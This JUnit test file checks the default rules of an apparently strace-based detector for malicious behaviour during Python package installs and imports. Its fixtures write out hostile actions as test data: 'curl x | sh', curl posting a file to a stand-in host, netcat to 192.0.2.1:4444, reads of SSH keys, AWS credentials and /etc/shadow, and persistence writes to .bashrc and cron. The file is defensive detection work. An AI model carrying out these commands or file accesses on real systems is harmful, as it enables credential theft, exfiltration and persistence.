package dev.recordinstall.policy;

import static dev.recordinstall.model.Activity.FileOp.*;
import static dev.recordinstall.model.Activity.NetOp.*;
import static dev.recordinstall.policy.Fx.*;
import static org.junit.jupiter.api.Assertions.*;

import dev.recordinstall.model.Activity;
import dev.recordinstall.model.ProcessInfo;
import dev.recordinstall.model.Role;
import dev.recordinstall.strace.TraceEvent.Loc;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** A hit test and an ok test for every rule of the default policy. */
class DefaultRulesTest {

  private static void hit(Fx fx, String rule) {
    List<String> ids = fx.ruleIds();
    assertTrue(ids.contains(rule), "expected " + rule + " in " + ids);
  }

  private static void clean(Fx fx) {
    List<Finding> f = fx.eval();
    assertEquals(List.of(), f.stream().map(x -> x.ruleId() + ": " + x.message()).toList());
  }

  private static ProcessInfo.Exec exec(String path, boolean ok, String... argv) {
    return new ProcessInfo.Exec(path, List.of(argv), ok, ok ? null : "ENOENT", new Loc("t", 1));
  }

  @Test
  void baselineIsClean() {
    clean(Fx.install());
    clean(Fx.imports());
  }

  // exit
  @Test
  void exitNonzero() {
    Fx fx = Fx.install().proc(102, 101, Role.PACKAGE_CHILD, "/usr/bin/false").exit(102, 1, null);
    hit(fx, "exit.nonzero");
    Finding f = fx.eval().get(0);
    assertEquals("exit", f.category());
    assertEquals("PACKAGE_CHILD", f.evidence().get(0).role());
    assertEquals(3, f.evidence().get(0).processPath().size());
    hit(Fx.imports().exit(200, null, "SIGSEGV"), "exit.nonzero");
  }

  @Test
  void exitNonzeroOk() {
    // pip probing for lsb_release that is not there: the fork exits 255 after a failed exec.
    Fx fx =
        Fx.install().proc(103, 100, Role.PIP_HELPER, "/usr/bin/lsb_release").exit(103, 255, null);
    fx.execs(103, exec("/usr/bin/lsb_release", false, "lsb_release", "-a"));
    clean(fx);
    clean(Fx.install().proc(102, 0, Role.SETUP, "/usr/bin/bwrap").exit(102, 1, null));
    // a failed install is the verdict install-failed, not a finding
    clean(Fx.install().exit(100, 1, null));
  }

  @Test
  void exitOfAKilledPipStillCounts() {
    hit(Fx.install().exit(100, null, "SIGKILL"), "exit.nonzero");
  }

  @Test
  void exitNonzeroOfARealHelperStillCounts() {
    Fx fx = Fx.install().proc(103, 100, Role.PIP_HELPER, "/usr/bin/uname").exit(103, 2, null);
    hit(fx, "exit.nonzero");
  }

  // syscall
  @Test
  void syscallNotAllowed() {
    hit(Fx.imports().syscall(200, "openat").syscall(200, "memfd_create"), "syscall.not-allowed");
    hit(Fx.imports().syscall(200, "syscall_0x1b4"), "syscall.not-allowed");
    hit(Fx.install().syscall(101, "setuid"), "syscall.not-allowed");
  }

  @Test
  void syscallAllowed() {
    clean(Fx.imports().syscall(200, "openat").syscall(200, "mbind").syscall(200, "clone3"));
    clean(Fx.install().proc(90, 0, Role.SETUP, "/usr/bin/bwrap").syscall(90, "pivot_root"));
  }

  @Test
  void masquerade() {
    hit(
        Fx.imports().call(200, "prctl", Map.of("option", "PR_SET_NAME"), 0, true),
        "process.masquerade");
    clean(
        Fx.install()
            .proc(105, 100, Role.PIP_HELPER, "/usr/bin/rustc")
            .call(105, "prctl", Map.of("option", "PR_SET_NAME"), 0, true));
    clean(Fx.imports().call(200, "prctl", Map.of("option", "PR_GET_NAME"), 0, true));
    // Naming a worker thread is not masquerading.
    clean(
        Fx.imports().thread(201, 200).call(201, "prctl", Map.of("option", "PR_SET_NAME"), 0, true));
  }

  @Test
  void ptraceTraceme() {
    hit(
        Fx.imports().call(200, "ptrace", Map.of("request", "PTRACE_TRACEME"), 0, true),
        "tamper.ptrace-traceme");
    // Attaching to another process is not TRACEME; it is process.inject, even on a child.
    hit(
        Fx.imports().call(200, "ptrace", Map.of("request", "PTRACE_ATTACH"), 201, true),
        "process.inject");
  }

  @Test
  void outsideTree() {
    hit(
        Fx.imports().call(200, "kill", Map.of("signal", "SIGKILL"), 1, false),
        "process.outside-tree");
    hit(Fx.install().call(101, "process_vm_readv", Map.of(), 4242, false), "process.outside-tree");
    hit(
        Fx.imports().call(200, "kill", Map.of("signal", "SIGKILL"), -1, false),
        "process.outside-tree");
  }

  @Test
  void injectInsideTree() {
    hit(
        Fx.imports().call(200, "ptrace", Map.of("request", "PTRACE_ATTACH"), 100, true),
        "process.inject");
    hit(Fx.imports().call(200, "process_vm_readv", Map.of(), 100, true), "process.inject");
    // TRACEME has its own rule; kill inside the tree is routine
    clean(Fx.imports().call(200, "kill", Map.of("signal", "SIGKILL"), 201, true));
  }

  @Test
  void insideTreeOk() {
    clean(Fx.imports().call(200, "kill", Map.of("signal", "SIGTERM"), 201, true));
    clean(Fx.imports().call(200, "kill", Map.of("signal", "SIGTERM"), 0, false));
  }

  // file
  @Test
  void sensitive() {
    hit(Fx.install().file(101, READ, HOME + "/.ssh/id_rsa"), "file.sensitive");
    hit(
        Fx.imports().file(200, PROBE, HOME + "/.aws/credentials", null, "ENOENT"),
        "file.sensitive");
    hit(Fx.imports().file(200, READ, "/etc/shadow", null, "EACCES"), "file.sensitive");
    hit(Fx.imports().file(200, LIST, HOME + "/.mozilla/firefox/x.default"), "file.sensitive");
    hit(Fx.imports().file(200, READ, HOME + "/.netrc"), "file.sensitive");
  }

  @Test
  void sensitiveOk() {
    clean(Fx.install().file(100, READ, HOME + "/.netrc", null, "ENOENT"));
    clean(Fx.imports().file(200, READ, HOME + "/.sshconfig-not-a-key"));
    clean(Fx.imports().file(200, READ, "/etc/passwd"));
  }

  @Test
  void procOther() {
    hit(Fx.imports().file(200, READ, "/proc/1/environ"), "file.proc-other");
    hit(Fx.imports().file(200, READ, "/proc/77/cmdline"), "file.proc-other");
    Fx fx = Fx.imports().proc(201, 200, Role.PACKAGE_CHILD, "/usr/bin/python3");
    hit(fx.file(200, READ, "/proc/201/mem"), "file.proc-other");
  }

  @Test
  void procSelfOk() {
    clean(Fx.imports().file(200, READ, "/proc/self/environ"));
    clean(Fx.imports().file(200, READ, "/proc/200/cmdline"));
    clean(
        Fx.imports()
            .proc(201, 200, Role.PACKAGE_CHILD, "/usr/bin/python3")
            .file(200, READ, "/proc/201/cmdline"));
  }

  @Test
  void writeOutside() {
    hit(Fx.install().file(101, WRITE, "/etc/passwd", null, "EACCES"), "file.write-outside");
    hit(
        Fx.imports().file(200, CREATE, "/usr/local/lib/evil.so", null, "EROFS"),
        "file.write-outside");
    hit(
        Fx.imports().file(200, RENAME, TMP + "/x", HOME + "/.config/thing", null),
        "file.write-outside");
  }

  @Test
  void userCachesOk() {
    clean(Fx.imports().file(200, CREATE, HOME + "/.cache/matplotlib/fontlist.json"));
    clean(Fx.imports().file(200, MKDIR, HOME + "/.cache"));
    clean(Fx.imports().file(200, CREATE, "/var/cache/fontconfig/x.cache-8", null, "EROFS"));
    // an app's own config dir may be created; files written into config dirs are reported
    clean(Fx.imports().file(200, MKDIR, HOME + "/.config/matplotlib"));
    hit(Fx.imports().file(200, MKDIR, HOME + "/.config/a/b"), "file.write-outside");
    hit(Fx.imports().file(200, CREATE, HOME + "/.config/pip/pip.conf"), "file.write-outside");
  }

  @Test
  void appStateDirOk() {
    // keras on first import: its own new dot-dir with a settings file
    clean(
        Fx.imports()
            .file(200, MKDIR, HOME + "/.keras")
            .file(200, CREATE, HOME + "/.keras/keras.json")
            .file(200, MKDIR, HOME + "/.keras/datasets")
            .file(200, WRITE, HOME + "/.keras/datasets/index.sqlite"));
  }

  @Test
  void appStateDirLimits() {
    // code, or files of other names, in the new dir
    hit(
        Fx.imports().file(200, MKDIR, HOME + "/.rifx").file(200, CREATE, HOME + "/.rifx/stage2.py"),
        "file.write-outside");
    hit(
        Fx.imports().file(200, MKDIR, HOME + "/.rifx").file(200, CREATE, HOME + "/.rifx/payload"),
        "file.write-outside");
    // a link out of the new dir
    hit(
        Fx.imports()
            .file(200, MKDIR, HOME + "/.rifx")
            .file(200, SYMLINK, HOME + "/.bashrc", HOME + "/.rifx/x.json", null),
        "file.write-outside");
    // a directory that existed before the phase (no successful mkdir here)
    hit(Fx.imports().file(200, CREATE, HOME + "/.keras/keras.json"), "file.write-outside");
    hit(
        Fx.imports()
            .file(200, MKDIR, HOME + "/.keras", null, "EEXIST")
            .file(200, CREATE, HOME + "/.keras/keras.json"),
        "file.write-outside");
    // directories other programs read: created fresh, still reported
    hit(
        Fx.imports()
            .file(200, MKDIR, HOME + "/.docker")
            .file(200, CREATE, HOME + "/.docker/x.json"),
        "file.write-outside");
    hit(Fx.imports().file(200, MKDIR, HOME + "/.ssh"), "file.write-outside");
    hit(
        Fx.imports()
            .file(200, MKDIR, HOME + "/.gitconfig.d")
            .file(200, CREATE, HOME + "/.gitconfig.d/a.cfg"),
        "file.write-outside");
    // a new dir that is not a direct dot-dir of HOME
    hit(
        Fx.imports().file(200, MKDIR, "/srv/rifx").file(200, CREATE, "/srv/rifx/a.json"),
        "file.write-outside");
    hit(
        Fx.imports().file(200, MKDIR, HOME + "/rifx").file(200, CREATE, HOME + "/rifx/a.json"),
        "file.write-outside");
  }

  @Test
  void persistenceByConfig() {
    hit(
        Fx.imports().file(200, MKDIR, HOME + "/.pip").file(200, CREATE, HOME + "/.pip/pip.conf"),
        "file.persistence");
    hit(Fx.imports().file(200, CREATE, HOME + "/.config/pip/pip.conf"), "file.persistence");
    hit(
        Fx.imports().file(200, CREATE, HOME + "/.ipython/profile_default/startup/00-x.py"),
        "file.persistence");
  }

  @Test
  void writeInsideOk() {
    clean(
        Fx.install()
            .file(101, WRITE, TMP + "/pip-build/x.o")
            .file(100, CREATE, SP + "/x/__init__.py")
            .file(100, MKDIR, HOME + "/.cache/pip/wheels")
            .file(200, WRITE, "/dev/null")
            .file(101, MKDIR, "/root", null, "EEXIST")
            .file(
                101,
                CREATE,
                "/root/.pyenv/versions/3.11.7/lib/python3.11/__pycache__/os.cpython-311.pyc.123",
                null,
                "EROFS"));
    clean(Fx.imports().file(200, READ, "/etc/hosts"));
    // A symlink in the venv pointing at the base interpreter writes only the link.
    clean(Fx.install().file(100, SYMLINK, "/usr/bin/python3", VENV + "/bin/python3", null));
    hit(
        Fx.install().file(101, SYMLINK, TMP + "/x", HOME + "/.config/x", null),
        "file.write-outside");
  }

  @Test
  void persistence() {
    hit(Fx.install().file(101, WRITE, HOME + "/.bashrc"), "file.persistence");
    hit(Fx.imports().file(200, CREATE, HOME + "/.config/autostart/x.desktop"), "file.persistence");
    hit(Fx.imports().file(200, CREATE, "/etc/cron.d/x", null, "EACCES"), "file.persistence");
    hit(
        Fx.imports()
            .act(
                new Activity.ExecutableCreated(
                    200, new Loc("t", 9), 0, HOME + "/.local/bin/x", "chmod")),
        "file.persistence");
  }

  @Test
  void persistenceOk() {
    clean(Fx.imports().file(200, READ, HOME + "/.bashrc", null, "ENOENT"));
    clean(Fx.imports().file(200, MKDIR, "/etc/cron.d", null, "EEXIST"));
  }

  @Test
  void executableOutsideVenv() {
    hit(
        Fx.imports()
            .act(
                new Activity.ExecutableCreated(200, new Loc("t", 9), 0, TMP + "/payload", "chmod")),
        "file.executable-outside-venv");
    hit(
        Fx.install().act(new Activity.ExecutableCreated(101, new Loc("t", 9), 0, "/opt/x", "ELF")),
        "file.executable-outside-venv");
  }

  @Test
  void executableOk() {
    clean(
        Fx.install()
            .act(
                new Activity.ExecutableCreated(
                    100, new Loc("t", 9), 0, VENV + "/bin/tool", "chmod"))
            .act(
                new Activity.ExecutableCreated(
                    101, new Loc("t", 9), 0, TMP + "/build/x.so", "ELF")));
  }

  @Test
  void sitePackagesWrite() {
    hit(Fx.install().file(101, CREATE, SP + "/evil.pth"), "file.site-packages-write");
    hit(Fx.imports().file(200, WRITE, SP + "/other/__init__.py"), "file.site-packages-write");
  }

  @Test
  void sitePackagesOk() {
    clean(Fx.install().file(100, CREATE, SP + "/good.pth"));
    clean(
        Fx.imports()
            .file(200, CREATE, SP + "/x/__pycache__/a.cpython-311.pyc.1234")
            .file(
                200,
                RENAME,
                SP + "/x/__pycache__/a.cpython-311.pyc.1234",
                SP + "/x/__pycache__/a.cpython-311.pyc",
                null));
  }

  // process
  @Test
  void execShellDownloaderNetToolPersistenceTool() {
    Fx fx = Fx.install().proc(102, 101, Role.PACKAGE_CHILD, "/bin/sh", "-c", "curl x | sh");
    hit(fx, "process.exec-shell");
    hit(
        Fx.imports()
            .proc(201, 200, Role.PACKAGE_CHILD, "/usr/bin/curl", "-d", "@x", "https://a.invalid"),
        "process.exec-downloader");
    Fx failed = Fx.imports().proc(201, 200, Role.PACKAGE_CHILD, "/usr/bin/wget");
    failed.execs(201, exec("/usr/bin/wget", false, "wget", "http://x.invalid"));
    hit(failed, "process.exec-downloader");
    hit(
        Fx.imports().proc(201, 200, Role.PACKAGE_CHILD, "/bin/nc", "192.0.2.1", "4444"),
        "process.exec-network-tool");
    hit(
        Fx.imports().proc(201, 200, Role.PACKAGE_CHILD, "/usr/bin/crontab", "-"),
        "process.exec-persistence-tool");
  }

  @Test
  void execOk() {
    clean(
        Fx.install()
            .proc(102, 101, Role.BUILD_TOOL, "/usr/bin/gcc", "-c", "x.c")
            .proc(103, 100, Role.PIP_HELPER, "/bin/sh", "/usr/bin/lsb_release", "-a")
            .proc(104, 101, Role.PACKAGE_CHILD, VENV + "/bin/python", "-c", "pass"));
  }

  @Test
  void execUnusualPath() {
    hit(
        Fx.imports().proc(201, 200, Role.PACKAGE_CHILD, TMP + "/payload"),
        "process.exec-unusual-path");
    hit(
        Fx.imports().proc(201, 200, Role.PACKAGE_CHILD, "/proc/self/fd/3"),
        "process.exec-unusual-path");
    hit(
        Fx.imports().proc(201, 200, Role.PACKAGE_CHILD, "/memfd:x (deleted)"),
        "process.exec-unusual-path");
  }

  @Test
  void execUnusualPathOk() {
    Fx fx = Fx.imports().proc(201, 200, Role.PACKAGE_CHILD, "/usr/bin/ldconfig");
    fx.execs(
        201,
        exec("/root/.cargo/bin/ldconfig", false, "ldconfig"),
        exec("/usr/bin/ldconfig", true, "ldconfig", "-p"));
    clean(fx);
  }

  @Test
  void survivor() {
    hit(
        Fx.install().integrity(101, Activity.IntegrityKind.SURVIVOR, "pid 101 still running"),
        "process.survivor");
    clean(Fx.install());
  }

  // network
  @Test
  void dns() {
    Fx fx =
        Fx.imports()
            .act(
                new Activity.DnsQuery(
                    200, new Loc("t", 3), 0, "x.attacker.invalid", "A", "127.0.0.53"));
    hit(fx, "net.dns-non-index");
    clean(
        Fx.install()
            .act(new Activity.DnsQuery(100, new Loc("t", 3), 0, "pypi.org", "A", "127.0.0.53")));
  }

  @Test
  void connect() {
    hit(
        Fx.imports()
            .net(200, CONNECT, "AF_INET", "SOCK_STREAM", null, "192.0.2.10", 443, null, null),
        "net.connect-non-index");
    hit(
        Fx.imports().net(200, CONNECT, "AF_INET", "SOCK_STREAM", null, "127.0.0.1", 9, null, null),
        "net.connect-non-index");
  }

  @Test
  void connectOk() {
    clean(
        Fx.install()
            .net(
                100,
                CONNECT,
                "AF_INET",
                "SOCK_STREAM",
                null,
                "151.101.0.223",
                443,
                "pypi.org",
                null)
            .net(100, CONNECT, "AF_INET", "SOCK_DGRAM", null, "127.0.0.53", 53, null, null)
            .net(
                100, CONNECT, "AF_UNIX", "SOCK_STREAM", null, "/var/run/nscd/socket", 0, null, null)
            .net(200, BIND, "AF_INET6", "SOCK_STREAM", null, "::1", 0, null, null));
  }

  @Test
  void httpTls() {
    hit(
        Fx.imports()
            .act(new Activity.TlsHello(200, new Loc("t", 4), 0, "evil.example", "192.0.2.1", 443)),
        "net.http-non-index");
    hit(
        Fx.imports()
            .act(
                new Activity.HttpRequest(
                    200, new Loc("t", 4), 0, "evil.example", "POST /x HTTP/1.1", "192.0.2.1", 80)),
        "net.http-non-index");
    clean(
        Fx.install()
            .act(
                new Activity.TlsHello(
                    100, new Loc("t", 4), 0, "files.pythonhosted.org", "1.2.3.4", 443)));
  }

  @Test
  void unixConnect() {
    hit(
        Fx.imports()
            .net(
                200,
                CONNECT,
                "AF_UNIX",
                "SOCK_STREAM",
                null,
                "/var/run/docker.sock",
                0,
                null,
                null),
        "net.unix-connect");
    clean(
        Fx.imports()
            .net(200, CONNECT, "AF_UNIX", "SOCK_STREAM", null, "/run/nscd/socket", 0, null, null));
  }

  @Test
  void rawSocket() {
    hit(
        Fx.imports().net(200, SOCKET, "AF_INET", "SOCK_RAW", "IPPROTO_ICMP", null, 0, null, null),
        "net.raw-socket");
    hit(
        Fx.imports().net(200, SOCKET, "AF_INET", "SOCK_DGRAM", "IPPROTO_ICMP", null, 0, null, null),
        "net.raw-socket");
    hit(
        Fx.imports().net(200, SOCKET, "AF_PACKET", "SOCK_RAW", null, null, 0, null, null),
        "net.raw-socket");
    clean(
        Fx.imports()
            .net(200, SOCKET, "AF_NETLINK", "SOCK_RAW", "NETLINK_ROUTE", null, 0, null, null));
    clean(
        Fx.imports()
            .net(200, SOCKET, "AF_INET6", "SOCK_STREAM", "IPPROTO_IP", null, 0, null, null));
  }

  @Test
  void udp() {
    hit(
        Fx.imports().net(200, SEND, "AF_INET", "SOCK_DGRAM", null, "198.51.100.7", 9999, null, "x"),
        "net.udp-non-dns");
    clean(Fx.install().net(100, SEND, "AF_INET", "SOCK_DGRAM", null, "127.0.0.53", 53, null, "q"));
    hit(
        Fx.install().net(101, SEND, "AF_INET", "SOCK_DGRAM", null, "203.0.113.53", 53, null, "q"),
        "net.udp-non-dns");
  }

  @Test
  void listen() {
    hit(
        Fx.imports().net(200, LISTEN, "AF_INET", "SOCK_STREAM", null, "0.0.0.0", 4444, null, null),
        "net.listen");
    clean(Fx.install().net(100, LISTEN, "AF_UNIX", "SOCK_STREAM", null, "/tmp/s", 0, null, null));
  }

  @Test
  void baitExfil() {
    hit(
        Fx.imports()
            .net(200, SEND, "AF_UNIX", "SOCK_STREAM", null, "/tmp/s", 0, null, "key=" + MARKER),
        "net.bait-exfil");
    String b64 = java.util.Base64.getEncoder().encodeToString(("xx" + MARKER + "yy").getBytes());
    hit(
        Fx.imports().net(200, SEND, "AF_UNIX", "SOCK_STREAM", null, "/tmp/s", 0, null, "d=" + b64),
        "net.bait-exfil");
    String hex = java.util.HexFormat.of().formatHex(MARKER.getBytes());
    hit(
        Fx.imports()
            .act(
                new Activity.DnsQuery(
                    200, new Loc("t", 3), 0, hex + ".x.invalid", "A", "127.0.0.53")),
        "net.bait-exfil");
    hit(
        Fx.imports()
            .proc(
                201, 200, Role.PACKAGE_CHILD, "/usr/bin/python3", "-c", "print('" + MARKER + "')"),
        "net.bait-exfil");
    clean(
        Fx.imports()
            .net(
                200,
                SEND,
                "AF_UNIX",
                "SOCK_STREAM",
                null,
                "/run/nscd/socket",
                0,
                null,
                "hello RI-BAIT-"));
  }

  // tamper
  @Test
  void tracerError() {
    hit(
        Fx.install()
            .integrity(0, Activity.IntegrityKind.TRACER_ERROR, "strace: Process 7 detached"),
        "tamper.tracer-error");
  }

  @Test
  void truncated() {
    hit(
        Fx.install().integrity(100, Activity.IntegrityKind.TRUNCATED, "no exit for root"),
        "tamper.trace-truncated");
    hit(
        Fx.install().integrity(100, Activity.IntegrityKind.UNFINISHED_AT_END, "read"),
        "tamper.trace-truncated");
  }

  @Test
  void limitReached() {
    hit(
        Fx.install().integrity(0, Activity.IntegrityKind.LIMIT_REACHED, "activities"),
        "tamper.limit-reached");
    clean(Fx.imports());
  }

  @Test
  void tracerFailed() {
    Fx fx = Fx.install();
    var in =
        new CompiledPolicy.PhaseInput(
            fx.model(), new PhaseFacts("install", 0, false, true, false, 137, 0));
    assertEquals(
        List.of("tamper.tracer-failed"),
        policy().evaluate(List.of(in)).stream().map(Finding::ruleId).toList());
    var ok =
        new CompiledPolicy.PhaseInput(
            null, new PhaseFacts("venv", 0, false, false, false, null, 0));
    assertEquals(List.of(), policy().evaluate(List.of(ok)));
    // A complete trace whose tracer died on its own (status differs from the phase's): hit.
    var died =
        new CompiledPolicy.PhaseInput(
            fx.model(), new PhaseFacts("install", 0, false, true, true, 137, 0));
    assertEquals(
        List.of("tamper.tracer-failed"),
        policy().evaluate(List.of(died)).stream().map(Finding::ruleId).toList());
    // A failed pip install: strace passes pip's status through; that is not a dead tracer.
    var failedInstall =
        new CompiledPolicy.PhaseInput(
            Fx.install().model(), new PhaseFacts("install", 1, false, true, true, 1, 0));
    assertEquals(List.of(), policy().evaluate(List.of(failedInstall)));
  }

  @Test
  void outputFlood() {
    // killed at the limit: strace passes the SIGKILL status of the root through (no tracer finding)
    var stopped =
        new CompiledPolicy.PhaseInput(
            Fx.imports().model(), new PhaseFacts("import", 137, false, true, true, 137, 0, true));
    assertEquals(
        List.of("tamper.output-flood"),
        policy().evaluate(List.of(stopped)).stream().map(Finding::ruleId).toList());
    var normal =
        new CompiledPolicy.PhaseInput(
            Fx.imports().model(), new PhaseFacts("import", 0, false, true, true, 0, 0, false));
    assertEquals(List.of(), policy().evaluate(List.of(normal)));
  }

  @Test
  void parseError() {
    hit(Fx.install().integrity(100, Activity.IntegrityKind.PARSE_ERROR, "t:3: bad"), "parse.error");
  }

  @Test
  void everyDefaultRuleHasATestHere() throws Exception {
    String src =
        java.nio.file.Files.readString(
            java.nio.file.Path.of("src/test/java/dev/recordinstall/policy/DefaultRulesTest.java"));
    for (String id : Policy.loadDefault().ruleIds()) {
      assertTrue(src.contains("\"" + id + "\""), "no test names rule " + id);
    }
  }

  @Test
  void floodsFoldIntoOneOverflowFinding() {
    Fx fx = Fx.imports();
    for (int i = 0; i < 300; i++) fx.file(200, CREATE, "/opt/x/f" + i);
    List<Finding> f = fx.eval();
    assertEquals(CompiledPolicy.MAX_GROUPS_PER_RULE + 1, f.size());
    assertEquals(300, f.stream().mapToLong(Finding::count).sum());
    assertTrue(f.stream().anyMatch(x -> x.message().startsWith("more of file.write-outside")));
  }

  @Test
  void statOfShadowIsNotReading() {
    clean(Fx.install().file(100, PROBE, "/etc/shadow"));
    hit(Fx.install().file(100, READ, "/etc/shadow"), "file.sensitive");
  }

  @Test
  void deduplicatesAndCounts() {
    Fx fx = Fx.imports();
    for (int i = 0; i < 20; i++) fx.file(200, READ, HOME + "/.ssh/id_rsa");
    List<Finding> f = fx.eval();
    assertEquals(1, f.size());
    assertEquals(20, f.get(0).count());
    assertEquals(1, f.get(0).evidence().size(), "identical events from one process are shown once");
    assertEquals("import.strace:3", f.get(0).evidence().get(0).location());
  }
}
